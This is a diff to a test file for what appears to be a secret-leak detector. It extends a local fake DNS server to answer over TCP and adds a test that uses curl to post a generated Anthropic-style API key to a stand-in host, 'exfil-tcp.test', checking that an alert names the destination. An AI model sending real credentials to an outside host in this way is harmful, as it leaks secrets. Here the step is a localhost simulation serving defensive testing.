@@ -55,7 +55,8 @@ def _qname(packet: bytes) -> tuple[str, int, int]:
 
 
 class DnsServer:
-    """Answers A queries for the names it knows, AAAA with no records, the rest NXDOMAIN."""
+    """Answers A queries for the names it knows, AAAA with no records, the rest NXDOMAIN; over
+    UDP and over TCP (2-byte length prefix), on the same address."""
 
     def __init__(self, names: dict[str, str]):
         self.names = {k.lower(): v for k, v in names.items()}
@@ -64,9 +65,39 @@ class DnsServer:
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self.sock.bind((self.address, 53))
         self.sock.settimeout(0.2)
+        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.tcp.bind((self.address, 53))
+        self.tcp.listen(8)
+        self.tcp.settimeout(0.2)
+        self.tcp_queries = 0
         self._stop = False
         self._thread = threading.Thread(target=self._serve, daemon=True)
         self._thread.start()
+        self._tcp_thread = threading.Thread(target=self._serve_tcp, daemon=True)
+        self._tcp_thread.start()
+
+    def _serve_tcp(self):
+        while not self._stop:
+            try:
+                conn, _ = self.tcp.accept()
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(2.0)
+                try:
+                    while True:  # glibc may ask A and AAAA on one connection
+                        head = conn.recv(2, socket.MSG_WAITALL)
+                        if len(head) < 2:
+                            break
+                        packet = conn.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL)
+                        self.tcp_queries += 1
+                        answer = self._answer(packet)
+                        conn.sendall(struct.pack("!H", len(answer)) + answer)
+                except (IndexError, struct.error, OSError):
+                    continue
 
     def _serve(self):
         while not self._stop:
@@ -92,16 +123,19 @@ class DnsServer:
         header = packet[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, 1 if answers else 0, 0, 0)
         return header + packet[12:end] + answers
 
-    def resolv_conf(self, scratch) -> str:
+    def resolv_conf(self, scratch, tcp: bool = False) -> str:
         path = scratch / "resolv.conf"
-        path.write_text(f"nameserver {self.address}\noptions timeout:2 attempts:2\n")
+        options = "timeout:2 attempts:2" + (" use-vc" if tcp else "")
+        path.write_text(f"nameserver {self.address}\noptions {options}\n")
         path.chmod(0o644)
         return str(path)
 
     def close(self):
         self._stop = True
         self._thread.join(timeout=2)
+        self._tcp_thread.join(timeout=2)
         self.sock.close()
+        self.tcp.close()
 
 
 @pytest.fixture
@@ -151,6 +185,27 @@ def test_plain_http_to_a_name_resolved_by_dns_alerts_with_that_name(
     assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
         "exfil-dns.test", "dns", "127.0.0.1", http_server.port), _alerts_text(agent, alerts)
     assert _wait_counter(agent, "dns_addresses_learned") >= 1
+
+
+def test_a_name_resolved_over_tcp_names_the_destination_too(
+        agent, clients, http_server, dns_server, registry, scratch):
+    # resolv.conf "options use-vc": glibc asks over TCP and reads the answer with read(), the
+    # length prefix and the message apart.
+    dns = dns_server({"exfil-tcp.test": "127.0.0.1"})
+    key = registry.new("anthropic")
+    body = scratch / "body.json"
+    body.write_text(json.dumps({"api_key": key}))
+    url = f"http://exfil-tcp.test:{http_server.port}/v1/messages"
+    clients.run(_with_resolver(dns.resolv_conf(scratch, tcp=True), _curl_post(url, body)))
+    assert dns.tcp_queries >= 1, "curl did not resolve over TCP"
+    assert http_server.wait_for_requests(1)
+
+    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == "anthropic",
+                                   timeout=ALERT_TIMEOUT)
+    assert alerts, f"no alert\n{agent.diagnostics()}"
+    dest = alerts[0]["destination"]
+    assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), (
+        _alerts_text(agent, alerts))
 
 
 def test_plain_http_to_the_expected_provider_name_from_dns_is_quiet(
